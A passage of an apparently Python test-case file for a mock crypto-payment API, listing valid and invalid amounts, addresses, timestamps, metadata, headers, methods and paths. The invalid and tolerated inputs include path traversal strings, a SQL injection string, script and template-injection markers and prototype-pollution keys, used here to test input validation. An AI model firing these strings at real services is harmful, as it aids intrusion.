            "exponent in capitals": "1E18",
            "hexadecimal": "0x10",
            "hexadecimal without a prefix": "ff",
            "octal": "0o17",
            "binary": "0b11",
            "letters": "abc",
            "currency": "$1",
            "unit": "1 USDT",
            "percent": "1%",
            "fraction": "1/2",
            "suffix n": "1n",
            "NaN": "NaN",
            "Infinity": "Infinity",
            "null": "null",
            "true": "true",
            "quoted": '"1"',
            "Arabic-Indic digits": "١٢٣",
            "Devanagari digits": "१२३",
            "full-width digits": "１２３",
            "mathematical digits": "𝟏𝟐𝟑",
            "superscript": "²",
            "superscript after a digit": "1²",
            "circled digit": "①",
            "Roman numeral": "Ⅷ",
            "one half": "½",
            "Chinese numeral": "一",
            "2^256": str(2**256),
            "2^256-1, whose due does not fit": str(MAX_DUE),
            "smallest whose due does not fit": str(MAX_AMOUNT + 1),
            "78 nines": "9" * 78,
            "79 digits": "1" + "0" * 78,
            "5,000 digits": "9" * 5000,
            "60,000 digits": "9" * 60_000,
        },
    ),
    *accepted_values(
        "receive.amount",
        {
            "one": "1",
            "nine": "9",
            "a hundred": "100",
            "a hundred and one": "101",
            "one token of 18 decimals": str(10**18),
            "2^53+1": str(2**53 + 1),
            "2^64": str(2**64),
            "77 nines": "9" * 77,
            "largest whose due fits": str(MAX_AMOUNT),
        },
    ),
]

_DIGITS = CHECKSUMMED[2:]

NO_ADDRESS = {
    "empty": "",
    "space": " ",
    "prefix only": "0x",
    "zero address": "0x" + "0" * 40,
    "wrong checksum, one letter": CHECKSUMMED.replace("5aA", "5aa"),
    "wrong checksum, last letter": CHECKSUMMED[:-1] + "D",
    "wrong checksum, every letter": "0x" + _DIGITS.swapcase(),
    "wrong checksum, one capital": "0x" + _DIGITS.lower().replace("a", "A", 1),
    "wrong checksum, one small letter": "0x" + _DIGITS.upper().replace("A", "a", 1),
    "checksum of another address": CHECKSUMMED.replace("6053", "6054"),
    "checksum of EIP-1191": "0x5aaEB6053f3e94c9b9a09f33669435E7ef1bEAeD",
    "no prefix": _DIGITS,
    "capital prefix": "0X" + _DIGITS,
    "capital prefix and digits": "0X" + _DIGITS.upper(),
    "two prefixes": "0x0x" + _DIGITS[2:],
    "39 digits": CHECKSUMMED[:-1],
    "41 digits": CHECKSUMMED + "0",
    "20 bytes with a sign": "0x-" + _DIGITS[1:],
    "underscore": "0x" + _DIGITS[:19] + "_" + _DIGITS[20:],
    "public key": "0x04" + _DIGITS * 3 + "01234567",
    "private key": "0x4c0883a69102937d6231471b5dbb6204fe5129617082792ae468d01a3f362318",
    "private key without a prefix": "4c0883a69102937d6231471b5dbb6204fe5129617082792ae468d01a3f362318",
    "seed phrase": "test test test test test test test test test test test junk",
    "letter g": "0xg" + _DIGITS[1:],
    "leading space": " " + CHECKSUMMED,
    "trailing space": CHECKSUMMED + " ",
    "trailing line feed": CHECKSUMMED + "\n",
    "trailing carriage return": CHECKSUMMED + "\r",
    "trailing NUL": CHECKSUMMED + "\0",
    "leading line feed": "\n" + CHECKSUMMED,
    "space inside": CHECKSUMMED[:20] + " " + CHECKSUMMED[20:],
    "NUL inside": CHECKSUMMED[:20] + "\0" + CHECKSUMMED[21:],
    "zero-width space inside": CHECKSUMMED[:20] + "\u200b" + CHECKSUMMED[20:],
    "right-to-left override": "\u202e" + CHECKSUMMED,
    "Cyrillic x": "0\u0445" + _DIGITS,
    "multiplication sign": "0\u00d7" + _DIGITS,
    "Cyrillic a": "0x5\u0430" + _DIGITS[2:].lower(),
    "full-width digits": "0x" + "".join(chr(ord(digit) + 0xFEE0) for digit in _DIGITS),
    "Arabic-Indic digits": "0x" + "١" * 40,
    "quoted": f'"{CHECKSUMMED}"',
    "two addresses": f"{CHECKSUMMED},{CHECKSUMMED}",
    "with a chain id": CHECKSUMMED + "@56",
    "EIP-681 link": f"ethereum:{CHECKSUMMED}@56",
    "CAIP-10": f"eip155:56:{CHECKSUMMED}",
    "ICAP": "XE7338O073KYGTWWZN0F2WZ0R8PX5ZPPZS",
    "ENS name": "vitalik.eth",
    "BNB Beacon Chain": "bnb1grpf0955h0ykzq3ar5nmum7y6gdfl6lxfn46h2",
    "Bitcoin": "1BoatSLRHtKNngkdXEeobR76b53LETtpyT",
    "Bitcoin, segregated witness": "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
    "Tron": "TJRabPrwbZy45sbavfcjinPJC18kjpRTv8",
    "Solana": "7EcDhSYGxXyscszYEp35KHN8vvw3svAuLKTzXwCFLtV",
    "Cosmos": "cosmos1fl48vsnmsdzcv85q5d2q4z5ajdha8yu34mf0eh",
    "null": "null",
    "path": "../../etc/passwd",
    "10,000 digits": "0x" + "a" * 10_000,
}
GOOD_ADDRESSES = {
    "checksum": CHECKSUMMED,
    "checksum 2": "0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359",
    "checksum 3": "0xdbF03B407c01E7cD3CBea99509d93f8DDDC8C6FB",
    "checksum 4": "0xD1220A0cf47c7B9Be7A2E6BA89F429762e7b9aDb",
    "checksum that is all capitals": "0x52908400098527886E0F7030069857D2E4169EE7",
    "checksum that is all small": "0xde709f2102306220921060314715629080e2fb77",
    "small letters": CHECKSUMMED.lower(),
    "capitals": "0x" + _DIGITS.upper(),
    "no letters": "0x" + "1234567890" * 4,
    "one, which is a precompile": "0x" + "0" * 39 + "1",
    "one capital only": "0x" + "0" * 39 + "A",
}
ADDRESSES = [
    *unacceptable_values("receive.address", NO_ADDRESS),
    *unacceptable_values("refund_to.address", NO_ADDRESS),
    *accepted_values("receive.address", GOOD_ADDRESSES),
    *accepted_values("refund_to.address", GOOD_ADDRESSES),
    accepted("both the same", changed("refund_to.address", CHECKSUMMED)),
    unacceptable("both wrong", with_member(changed("receive.address", "0x1"), "refund_to.address", "0x2"),
                 "receive.address", "refund_to.address"),
]  # fmt: skip

NO_CHAIN = {
    "empty": "",
    "unknown": "solana",
    "capitals": "BSC",
    "capital": "Bsc",
    "leading space": " bsc",
    "trailing space": "bsc ",
    "trailing line feed": "bsc\n",
    "trailing NUL": "bsc\0",
    "number": "56",
    "CAIP-2": "eip155:56",
    "name": "BNB Smart Chain",
    "asset": "USDT",
    "list": "bsc,ethereum",
    "path": "../bsc",
    "SQL": "' OR 1=1--",
    "attribute of an object": "__class__",
    "member of an object": "constructor",
    "full-width": "ｂｓｃ",
    "Cyrillic": "bs\u0441",
    "wildcard": "*",
    "64 characters": "x" * 64,
    "65 characters": "x" * 65,
    "10,000 characters": "x" * 10_000,
}
NO_ASSET = {
    "empty": "",
    "unknown": "DOGE",
    "small letters": "usdt",
    "leading space": " USDT",
    "trailing space": "USDT ",
    "trailing line feed": "USDT\n",
    "trailing NUL": "USDT\0",
    "contract address": "0x55d398326f99059fF775485246999027B3197955",
    "name": "Tether USD",
    "of another chain": "POL",
    "with its chain": "bsc:USDT",
    "list": "USDT,USDC",
    "Cyrillic": "U\u0405DT",
    "attribute of an object": "__class__",
    "wildcard": "*",
    "64 characters": "X" * 64,
    "65 characters": "X" * 65,
}


def _route(chain: str, asset: str) -> Any:
    route = {"chain": chain, "asset": asset}
    return {**ORDER, "receive": {**ORDER["receive"], **route}, "pay_with": [route]}


CHAINS_ASSETS = [
    *unacceptable_values("receive.chain", NO_CHAIN, "pay_with[0].chain"),
    *unacceptable_values("pay_with[0].chain", NO_CHAIN),
    *unacceptable_values("refund_to.chain", NO_CHAIN),
    *unacceptable_values("receive.asset", NO_ASSET, "pay_with[0].asset"),
    *unacceptable_values("pay_with[0].asset", NO_ASSET),
    unacceptable("unknown chain on both sides", _route("solana", "USDT"),
                 "receive.chain", "pay_with[0].chain"),
    unacceptable("unknown asset on both sides", _route("bsc", "DOGE"), "receive.asset", "pay_with[0].asset"),
    unacceptable("asset of another chain on both sides", _route("bsc", "ETH"),
                 "receive.asset", "pay_with[0].asset"),
    unacceptable("pay with another chain", changed("pay_with[0].chain", "ethereum"), "pay_with[0].chain"),
    unacceptable("pay with another asset", changed("pay_with[0].asset", "USDC"), "pay_with[0].asset"),
    unacceptable("pay with another chain and asset",
                 changed("pay_with", [{"chain": "ethereum", "asset": "USDC"}]),
                 "pay_with[0].chain", "pay_with[0].asset"),
    unacceptable("receive on another chain", changed("receive.chain", "polygon"), "pay_with[0].chain"),
    unacceptable("receive another asset", changed("receive.asset", "BNB"), "pay_with[0].asset"),
    accepted("a chain's own coin", _route("bsc", "BNB")),
    accepted("another token", _route("bsc", "USDC")),
    accepted("another chain", with_member(_route("ethereum", "ETH"), "refund_to", None)),
    accepted("testnet", with_member(_route("bsc_testnet", "USDT"), "refund_to", None)),
]  # fmt: skip

_PLACE = ORDER["pay_with"][0]

PAY_WITH_SETTLEMENT = [
    unacceptable("no item", changed("pay_with", []), "pay_with"),
    unacceptable("two items", changed("pay_with", [_PLACE, {"chain": "bsc", "asset": "USDC"}]), "pay_with"),
    unacceptable("the same item twice", changed("pay_with", [_PLACE, _PLACE]), "pay_with"),
    unacceptable("1,000 items", changed("pay_with", [_PLACE] * 1000), "pay_with"),
    unacceptable("second item null", changed("pay_with", [_PLACE, None]), "pay_with", "pay_with[1]"),
    unacceptable("items of another item", changed("pay_with", [[_PLACE]]), "pay_with[0]"),
    unacceptable(
        "two nulls", changed("pay_with", [None, None]), "pay_with", "pay_with[0]", "pay_with[1]"
    ),
    unacceptable("empty item", changed("pay_with", [{}]), "pay_with[0].chain", "pay_with[0].asset"),
    unacceptable("item with null members", changed("pay_with", [{"chain": None, "asset": None}]),
                 "pay_with[0].chain", "pay_with[0].asset"),
    unacceptable("item with an amount", changed("pay_with", [{**_PLACE, "amount": "1"}]),
                 "pay_with[0].amount"),
    unacceptable("item with a typo", changed("pay_with", [{"chain": "bsc", "assets": "USDT"}]),
                 "pay_with[0].asset", "pay_with[0].assets"),
    unacceptable("no mode", changed("settlement", {}), "settlement.mode"),
    unacceptable("unknown member beside the mode", changed("settlement.speed", "fast"), "settlement.speed"),
    unacceptable("unknown member for the mode", changed("settlement", {"Mode": "x"}),
                 "settlement.mode", "settlement.Mode"),
    *unacceptable_values(
        "settlement.mode",
        {
            "empty": "",
            "another": "cross_chain_swap",
            "capitals": "SAME_CHAIN_MERCHANT_PAYOUT",
            "hyphens": "same-chain-merchant-payout",
            "leading space": " same_chain_merchant_payout",
            "trailing space": "same_chain_merchant_payout ",
            "trailing line feed": "same_chain_merchant_payout\n",
            "trailing NUL": "same_chain_merchant_payout\0",
            "cut off": "same_chain",
            "array of the mode": ["same_chain_merchant_payout"],
            "10,000 characters": "x" * 10_000,
        },
    ),
]  # fmt: skip

EXPIRES_AT = [
    *unacceptable_values(
        "expires_at",
        {
            "empty": "",
            "space": " ",
            "past": "2020-01-01T00:00:00Z",
            "epoch": "1970-01-01T00:00:00Z",
            "now": "2030-01-31T12:00:00Z",
            "now, at another offset": "2030-01-31T17:30:00+05:30",
            "a second ago": "2030-01-31T11:59:59Z",
            "a millisecond ago": "2030-01-31T11:59:59.999Z",
            "an hour ago, by its offset": "2030-01-31T13:00:00+02:00",
            "date only": "2030-01-31",
            "time only": "12:30:00Z",
            "no offset": "2030-01-31T12:30:00",
            "no offset, with a fraction": "2030-01-31T12:30:00.000",
            "space for T": "2030-01-31 12:30:00Z",
            "underscore for T": "2030-01-31_12:30:00Z",
            "no T": "2030-01-3112:30:00Z",
            "no seconds": "2030-01-31T12:30Z",
            "no minutes": "2030-01-31T12Z",
            "basic format": "20300131T123000Z",
            "week date": "2030-W06-4T12:30:00Z",
            "ordinal date": "2030-041T12:30:00Z",
            "comma for the point": "2030-01-31T12:30:00,5Z",
            "point without digits": "2030-01-31T12:30:00.Z",
            "month 00": "2030-00-10T12:30:00Z",
            "month 13": "2030-13-01T12:30:00Z",
            "day 00": "2031-01-00T12:30:00Z",
            "day 32": "2031-01-32T12:30:00Z",
            "February 30": "2031-02-30T12:30:00Z",
            "February 29 of no leap year": "2031-02-29T12:30:00Z",
            "February 29, 2100": "2100-02-29T12:30:00Z",
            "April 31": "2031-04-31T12:30:00Z",
            "hour 24": "2030-01-31T24:00:00Z",
            "hour 25": "2030-01-31T25:00:00Z",
            "minute 60": "2030-01-31T12:60:00Z",
            "second 60": "2030-06-30T23:59:60Z",
            "second 61": "2030-06-30T23:59:61Z",
            "offset +24:00": "2031-01-31T12:30:00+24:00",
            "offset -24:00": "2031-01-31T12:30:00-24:00",
            "offset +99:99": "2031-01-31T12:30:00+99:99",
            "offset of 60 minutes": "2031-01-31T12:30:00+05:60",
            "offset of -99 minutes": "2031-01-31T12:30:00-01:99",
            "offset without a colon": "2031-01-31T12:30:00+0530",
            "offset without minutes": "2031-01-31T12:30:00+05",
            "offset with seconds": "2031-01-31T12:30:00+05:30:15",
            "offset with one digit": "2031-01-31T12:30:00+5:30",
            "offset and Z": "2031-01-31T12:30:00+00:00Z",
            "Z twice": "2031-01-31T12:30:00ZZ",
            "minus sign of typographers": "2031-01-31T12:30:00\u221205:00",
            "UTC": "2031-01-31T12:30:00 UTC",
            "space before Z": "2031-01-31T12:30:00 Z",
            "military zone": "2031-01-31T12:30:00A",
            "named zone": "2031-01-31T12:30:00+01:00[Europe/Berlin]",
            "month of one digit": "2031-1-31T12:30:00Z",
            "hour of one digit": "2031-01-31T1:30:00Z",
            "year of two digits": "31-01-31T12:30:00Z",
            "year of five digits": "10000-01-01T00:00:00Z",
            "year with a sign": "+2031-01-31T12:30:00Z",
            "negative year": "-2031-01-31T12:30:00Z",
            "year 0000": "0000-01-01T00:00:00Z",
            "before year 1 in UTC": "0001-01-01T00:00:00+14:00",
            "after year 9999 in UTC": "9999-12-31T23:59:59-14:00",
            "leading space": " 2031-01-31T12:30:00Z",
            "trailing space": "2031-01-31T12:30:00Z ",
            "trailing line feed": "2031-01-31T12:30:00Z\n",
            "trailing NUL": "2031-01-31T12:30:00Z\0",
            "full-width digits": "２０３１-01-31T12:30:00Z",
            "Arabic-Indic digits": "٢٠٣١-01-31T12:30:00Z",
            "slashes": "2031/01/31T12:30:00Z",
            "American date": "01/31/2031",
            "RFC 1123": "Fri, 31 Jan 2031 12:30:00 GMT",
            "asctime": "Fri Jan 31 12:30:00 2031",
            "seconds since the epoch": "1927713000",
            "milliseconds since the epoch": "1927713000000",
            "duration": "PT30M",
            "interval": "2031-01-31T12:30:00Z/2031-01-31T13:30:00Z",
            "now in words": "now",
            "tomorrow": "tomorrow",
            "never": "never",
            "null in words": "null",
            "10,000 characters": "2031-01-31T12:30:00." + "0" * 10_000 + "Z",
        },
    ),
    *accepted_values(
        "expires_at",
        {
            "in half an hour": "2030-01-31T12:30:00Z",
            "in a second": "2030-01-31T12:00:01Z",
            "in a millisecond": "2030-01-31T12:00:00.001Z",
            "milliseconds": "2030-01-31T12:30:00.000Z",
            "one digit of a fraction": "2030-01-31T12:30:00.5Z",
            "microseconds": "2030-01-31T12:30:00.123456Z",
            "nanoseconds": "2030-01-31T12:30:00.123456789Z",
            "small t and z": "2030-01-31t12:30:00z",
            "offset +00:00": "2030-01-31T12:30:00+00:00",
            "offset -00:00": "2030-01-31T12:30:00-00:00",
            "offset +05:30": "2030-01-31T18:00:00+05:30",
            "offset +05:45": "2030-01-31T18:15:00+05:45",
            "offset -12:00": "2030-01-31T00:30:00-12:00",
            "offset +14:00": "2030-02-01T02:30:00+14:00",
            "offset +23:59": "2030-02-01T12:30:00+23:59",
            "future by its offset": "2030-01-31T11:30:00-01:00",
            "leap day": "2032-02-29T00:00:00Z",
            "midnight": "2030-02-01T00:00:00Z",
            "end of year 9999": "9999-12-31T23:59:59Z",
        },
    ),
]


def _deep(levels: int, *, arrays: bool = False) -> Any:
    """Metadata of so many levels."""
    value: Any = "leaf"
    for _ in range(levels - 1):
        value = [value] if arrays else {"a": value}
    return {"a": value}


def _metadata_of(size: int, character: str = "x") -> Any:
    """Metadata that takes `size` bytes as compact JSON."""
    room = size - len('{"k":""}')
    width = len(character.encode())
    return {"k": character * (room // width) + "x" * (room % width)}


def _entries(count: int) -> Any:
    return {f"key-{number}": f"value-{number}" for number in range(count)}


MAX_SAFE = 2**53 - 1

METADATA = [
    *unacceptable_values(
        "metadata",
        {
            "51 entries": _entries(51),
            "1,000 entries": _entries(1000),
            "empty key": {"": "value-1"},
            "key of 65 characters": {"k" * 65: "value-1"},
            "key of 65 emoji": {"💸" * 65: "value-1"},
            "key of 10,000 characters": {"k" * 10_000: "value-1"},
            "9 levels of objects": _deep(9),
            "9 levels of arrays": _deep(9, arrays=True),
            "9 levels at the end": {"a": "value-1", "b": [[], _deep(7)]},
            "16 KiB and a byte": _metadata_of(16 * KIB + 1),
            "16 KiB and a byte, beyond ASCII": _metadata_of(16 * KIB + 1, "é"),
            "60,000 bytes": _metadata_of(60_000),
            "2^53": {"k": 2**53},
            "-2^53": {"k": -(2**53)},
            "2^64": {"k": 2**64},
            "10^308": {"k": 10**308},
            "2^53 in an object": {"k": {"n": 2**53}},
            "2^53 in an array": {"k": [1, [2**53]]},
            "NUL in a value": {"k": "value-1\0"},
            "NUL in a key": {"key-1\0": "value-1"},
            "NUL only": {"k": "\0"},
            "NUL in an object": {"k": {"n": "value-1\0"}},
            "NUL in a key of an object": {"k": {"key-1\0": "value-1"}},
            "NUL in an array": {"k": ["value-0", ["value-1\0"]]},
            "address with NUL": {"wallet": CHECKSUMMED + "\0"},
        },
    ),
    *accepted_values(
        "metadata",
        {
            "empty": {},
            "50 entries": _entries(50),
            "key of 1 character": {"k": "v"},
            "key of 64 characters": {"k" * 64: "v"},
            "key of 64 emoji": {"💸" * 64: "v"},
            "8 levels of objects": _deep(8),
            "8 levels of arrays": _deep(8, arrays=True),
            "16 KiB": _metadata_of(16 * KIB),
            "16 KiB, beyond ASCII": _metadata_of(16 * KIB, "é"),
            "2^53-1": {"k": MAX_SAFE},
            "-(2^53-1)": {"k": -MAX_SAFE},
            "null": {"k": None},
            "true and false": {"a": True, "b": False},
            "zero": {"k": 0},
            "fractions": {"a": 0.1, "b": -2.5e-8, "c": 1e300},
            "whole number with a point": {"k": 1.0},
            "empty string": {"k": ""},
            "empty array and object": {"a": [], "b": {}},
            "nested": {"a": {"b": [1, 2.5, True, None, {"c": []}]}},
            "key order": {"b": 1, "a": 2, "c": 3},
            "markup": {"<b>": "<script>alert(1)</script>"},
            "template": {"k": "{{7*7}} ${7*7} %s %(k)s {0}"},
            "prototype": {"__proto__": {"admin": True}, "constructor": {"prototype": {}}},
            "control characters": {"k": "a\tb\nc\x1b\x7f\x85"},
            "right to left": {"k": "\u202eמטא"},
            "combining characters": {"é": "e\u0301", "e\u0301": "é"},
            "keys with dots and brackets": {"a.b": 1, "a[0]": 2, "$ref": 3},
            "key of a space": {" ": "v"},
            "number as a string": {"k": str(2**53)},
            "fields of the payment": {"id": "x", "status": "completed", "receive": {"amount": "0"}},
        },
    ),
]


def _typed(*values: str) -> bytes:
    return order(AUTHORIZATION, IDEMPOTENCY, *(f"Content-Type:{value}" for value in values))


def _coded(body: bytes, *values: str) -> bytes:
    return post(body, *KEYED_JSON, *(f"Content-Encoding: {value}" for value in values))


CONTENT_TYPE = [
    *case_per(
        {
            "no header": _typed(),
            "empty": _typed(""),
            "blank": _typed("   "),
            "text": _typed(" text/plain"),
            "text that is JSON": _typed(" text/json"),
            "form": _typed(" application/x-www-form-urlencoded"),
            "multipart": _typed(" multipart/form-data; boundary=x"),
            "bytes": _typed(" application/octet-stream"),
            "XML": _typed(" application/xml"),
            "JavaScript": _typed(" application/javascript"),
            "JSON API": _typed(" application/vnd.api+json"),
            "merge patch": _typed(" application/merge-patch+json"),
            "problem": _typed(" application/problem+json"),
            "lines of JSON": _typed(" application/x-ndjson"),
            "any": _typed(" */*"),
            "any application": _typed(" application/*"),
            "no subtype": _typed(" application"),
            "empty subtype": _typed(" application/"),
            "no type": _typed(" json"),
            "longer subtype": _typed(" application/jsonx"),
            "longer type": _typed(" xapplication/json"),
            "space before the slash": _typed(" application /json"),
            "space after the slash": _typed(" application/ json"),
            "word after the type": _typed(" application/json x"),
            "quoted": _typed(' "application/json"'),
            "list": _typed(" application/json, application/json"),
            "list with another": _typed(" application/json, text/plain"),
            "twice, different": _typed(" application/json", " text/plain"),
            "twice, the same": _typed(" application/json", " application/json"),
            "JSON as a parameter": _typed(" text/plain; application/json"),
            "charset Latin-1": _typed(" application/json; charset=iso-8859-1"),
            "charset Latin-1, quoted": _typed(' application/json; charset="iso-8859-1"'),
            "charset UTF-16": _typed(" application/json; charset=utf-16"),
            "charset UTF-32 in capitals": _typed(" application/json; CHARSET=UTF-32"),
            "charset ASCII": _typed(" application/json;charset=us-ascii"),
            "charset unknown": _typed(" application/json; charset=x"),
            "second parameter is a charset": _typed(" application/json; profile=x; charset=utf-16"),
            "two charsets": _typed(" application/json; charset=utf-8; charset=utf-16"),
            "charset in single quotes": _typed(" application/json; charset='utf-8'"),
            "webhooks": post(b'{"url": "https://merchant.example/"}', AUTHORIZATION, IDEMPOTENCY,
                             "Content-Type: text/plain", path=WEBHOOKS),
        },
        415,
        "unsupported_media_type",
    ),
    *case_per(
        {
            "gzip": _coded(gzip.compress(ORDER_BYTES, mtime=0), "gzip"),
            "gzip of many bytes": _coded(gzip.compress(b" " * 10_000 * KIB, mtime=0), "gzip"),
            "gzip that is not": _coded(ORDER_BYTES, "gzip"),
            "gzip in capitals": _coded(ORDER_BYTES, "GZIP"),
            "x-gzip": _coded(ORDER_BYTES, "x-gzip"),
            "deflate": _coded(zlib.compress(ORDER_BYTES), "deflate"),
            "br": _coded(ORDER_BYTES, "br"),
            "zstd": _coded(ORDER_BYTES, "zstd"),
            "compress": _coded(ORDER_BYTES, "compress"),
            "unknown coding": _coded(ORDER_BYTES, "x-foo"),
            "aws-chunked": _coded(ORDER_BYTES, "aws-chunked"),
            "list of codings": _coded(ORDER_BYTES, "identity, gzip"),
            "two codings": _coded(ORDER_BYTES, "gzip", "br"),
            "coding and identity": _coded(ORDER_BYTES, "gzip", "identity"),
        },
        415,
        "unsupported_content_encoding",
    ),
    *case_per(
        {
            "JSON": _typed(" application/json"),
            "spaces around": _typed("  \t application/json \t "),
            "no space before": _typed("application/json"),
            "capitals and odd spaces": _typed(' APPLICATION/JSON ;CHARSET="UTF-8"'),
            "charset UTF-8": _typed(" application/json; charset=utf-8"),
            "charset UTF-8 in capitals": _typed(" application/json;charset=UTF-8"),
            "charset UTF-8, quoted": _typed(' application/json; charset="utf-8"'),
            "unknown parameter": _typed(" application/json; profile=x"),
            "unknown parameter, quoted": _typed(' application/json; profile="https://schema.example/a b"'),
            "unknown parameter and charset": _typed(" application/json; profile=x; charset=utf-8"),
            "charset inside another parameter": _typed(' application/json; profile="x; charset=utf-16"'),
            "semicolon at the end": _typed(" application/json;"),
            "no coding": _coded(ORDER_BYTES, "identity"),
            "no coding in capitals": _coded(ORDER_BYTES, "Identity"),
        },
        201,
    ),
    Case("not looked at on GET", read("/v1/chains", AUTHORIZATION, "Content-Type: text/plain"), 200),
]  # fmt: skip

MAX_BODY = 64 * KIB


def _sized(size: int) -> bytes:
    """An acceptable order of so many bytes."""
    return ORDER_BYTES + b" " * (size - len(ORDER_BYTES))


SIZE = [
    *case_per(
        {
            "64 KiB and a byte": post(_sized(MAX_BODY + 1)),
            "64 KiB and a byte, in chunks": stream(_sized(MAX_BODY + 1)),
            "64 KiB and a byte, webhooks": post(_sized(MAX_BODY + 1), path=WEBHOOKS),
            "64 KiB and a byte of no JSON": post(b"x" * (MAX_BODY + 1)),
            "1 MiB": post(_sized(1024 * KIB)),
            "1 MiB in chunks": stream(_sized(1024 * KIB)),
            "1 MiB of zeros": post(bytes(1024 * KIB)),
            "10 GiB announced": send("POST", PAYMENTS, *KEYED_JSON, "Content-Length: 10737418240"),
            "2^63-1 bytes announced": send("POST", PAYMENTS, *KEYED_JSON, f"Content-Length: {2**63 - 1}"),
            "zeros before the length": send("POST", PAYMENTS, *KEYED_JSON, f"Content-Length: {10**9:025}"),
            "announced, and not yet sent": send("POST", PAYMENTS, *KEYED_JSON, "Content-Length: 65537",
                                                "Expect: 100-continue"),
            "one chunk of 1 GiB announced": send("POST", PAYMENTS, *KEYED_JSON, "Transfer-Encoding: chunked")
            + b"40000000\r\n" + b" " * (MAX_BODY + 1),
        },
        413,
        "payload_too_large",
    ),
    *case_per(
        {
            "64 KiB": post(_sized(MAX_BODY)),
            "64 KiB in chunks": stream(_sized(MAX_BODY)),
            "a byte less than 64 KiB": post(_sized(MAX_BODY - 1)),
            "chunks of a byte": send("POST", PAYMENTS, *KEYED_JSON, "Transfer-Encoding: chunked")
            + chunked(*(bytes([byte]) for byte in ORDER_BYTES)),
            "with a wish for a go-ahead": post(ORDER_BYTES, *KEYED_JSON, "Expect: 100-continue"),
        },
        201,
    ),
    *case_per({"64 KiB of no JSON": post(b"x" * MAX_BODY), "64 KiB of white space": post(b" " * MAX_BODY)},
              400, "invalid_json"),
]  # fmt: skip

ALLOWED = {
    "/v1/chains": "GET, HEAD, OPTIONS",
    "/v1/chains/bsc/assets": "GET, HEAD, OPTIONS",
    PAYMENTS: "POST, OPTIONS",
    "/v1/payments/{payment}": "GET, HEAD, OPTIONS",
    "/v1/payments/{payment}/attempts": "GET, HEAD, OPTIONS",
    WEBHOOKS: "GET, HEAD, POST, OPTIONS",
    "/openapi.yaml": "GET, HEAD, OPTIONS",
    "/swagger/": "GET, HEAD, OPTIONS",
    "/livez": "GET, HEAD, OPTIONS",
    "/readyz": "GET, HEAD, OPTIONS",
}
"""Every kind of path and its methods."""


def _method(name: str, method: str, path: str, *lines: str) -> Case:
    data = send(
        method, path, *(lines or KEYED_JSON), body=None if method in ("GET", "TRACE") else ORDER_BYTES
    )
    return Case(name, data, 405, "method_not_allowed", headers={"allow": ALLOWED[path]})


METHODS = [
    *(_method(f"{method} {path}", method, path)
      for path, allowed in ALLOWED.items()
      for method in ("GET", "POST", "PUT", "PATCH", "DELETE", "TRACE")
      if method not in allowed.split(", ")),
    *(_method(f"{method} /v1/chains", method, "/v1/chains")
      for method in ("PROPFIND", "MKCOL", "COPY", "LOCK", "SEARCH", "PURGE", "LINK", "REPORT")),
    *(Case(f"OPTIONS {path}", send("OPTIONS", path), 204, headers={"allow": allowed})
      for path, allowed in ALLOWED.items()),
    Case(
        "preflight",
        send("OPTIONS", PAYMENTS, "Origin: http://localhost:3000", "Access-Control-Request-Method: POST",
             "Access-Control-Request-Headers: authorization,content-type,idempotency-key,x-mock-scenario"),
        204,
        headers={"access-control-allow-origin": "*"},
    ),
    *case_per(
        {
            "unknown method": send("FOO", "/v1/chains", AUTHORIZATION),
            "unknown method with a body": send("CREATE", PAYMENTS, *KEYED_JSON, body=ORDER_BYTES),
            "method in small letters": send("get", "/v1/chains", AUTHORIZATION),
            "method in mixed case": send("Post", PAYMENTS, *KEYED_JSON, body=ORDER_BYTES),
            "method cut off": send("GE", "/v1/chains", AUTHORIZATION),
            "longer method": send("GETX", "/v1/chains", AUTHORIZATION),
            "no method": send("", "/v1/chains", AUTHORIZATION),
            "method of 10,000 letters": send("A" * 10_000, "/v1/chains", AUTHORIZATION),
            "method of another protocol": send("DESCRIBE", "rtsp://127.0.0.1/x", AUTHORIZATION),
            "CONNECT with a path": send("CONNECT", PAYMENTS, *KEYED_JSON),
            "CONNECT with a host": send("CONNECT", "merchant.example:443", *KEYED_JSON),
        },
        400,
        "bad_request",
    ),
    *case_per(
        {
            "override header": read("/v1/chains", AUTHORIZATION, "X-HTTP-Method-Override: DELETE"),
            "override in the query": read("/v1/payments/{payment}?_method=DELETE"),
            "GET with a body": send("GET", "/v1/chains", AUTHORIZATION, JSON_TYPE, body=b"{"),
            "GET with a chunked body": send("GET", "/v1/chains", AUTHORIZATION, "Transfer-Encoding: chunked")
            + chunked(b"{"),
        },
        200,
    ),
    Case("override of POST", order(*KEYED_JSON, "X-HTTP-Method-Override: GET"), 201),
]  # fmt: skip

NOWHERE = (
    "/v1", "/v1/", "/v1/chains/", "/v1//chains", "//v1/chains", "/v1/chains//", "/v1/chain",
    "/v1/chainsx", "/v1/Chains", "/V1/chains", "/v1/%63hains", "/v1%2Fchains", "/v1/chains%2F",
    "/v1/chains%20", "/v1/chains%00", "/v1/chains;x=1", "/v1/chains.json", "/v1/chains,", "/v1/./chains",
    "/v1/../v1/chains", "/v1/x/../chains", "/v1/chains/.", "/v1/chains/..", "/v1/chains/../webhooks",
    "/./v1/chains", "/../v1/chains", "/v1/%2e/chains", "/v1\\chains", "/v2/payments", "/v0/chains",
    "/v1.0/chains", "/api/v1/chains", "/chains", "/payments", "/v1/chains/bsc", "/v1/chains/bsc/",
    "/v1/chains/bsc/assets/", "/v1/chains/bsc/assets/USDT", "/v1/chains//assets", "/v1/chains/bsc/Assets",
    "/v1/chains/bsc/tokens", "/v1/chains/bsc%2Fassets", "/v1/chains/a/b/assets", "/v1/payments/",
    "/v1/Payments", "/v1/payment", "/v1/payments//attempts", "/v1/payments/{payment}/",
    "/v1/payments/{payment}/attempts/", "/v1/payments/{payment}/Attempts",
    "/v1/payments/{payment}/attempts/1", "/v1/payments/{payment}/cancel",
    "/v1/payments/{payment}/../{payment}/attempts", "/v1/webhooks/", "/v1/webhooks/we_{endpoint_token}",
    "/v1/webhook", "/v1/refunds", "/v1/settlements", "/v1/__proto__", "/v1/openapi.yaml", "/openapi.json",
    "/openapi.yaml/", "/openapi", "/swagger/index.html", "/swagger//", "/Swagger/", "/swagger/missing.js",
    "/swagger/../openapi.yaml", "/swagger/..%2f..%2fetc%2fpasswd", "/swagger/%2e%2e/%2e%2e/etc/passwd",
    "/swagger/..%5c..%5cetc%5cpasswd", "/swagger/%00", "/swagger/swagger-ui.css%00.js", "/docs", "/redoc",
    "/livez/", "/readyz/", "/healthz", "/health", "/metrics", "/favicon.ico", "/robots.txt", "/.env",
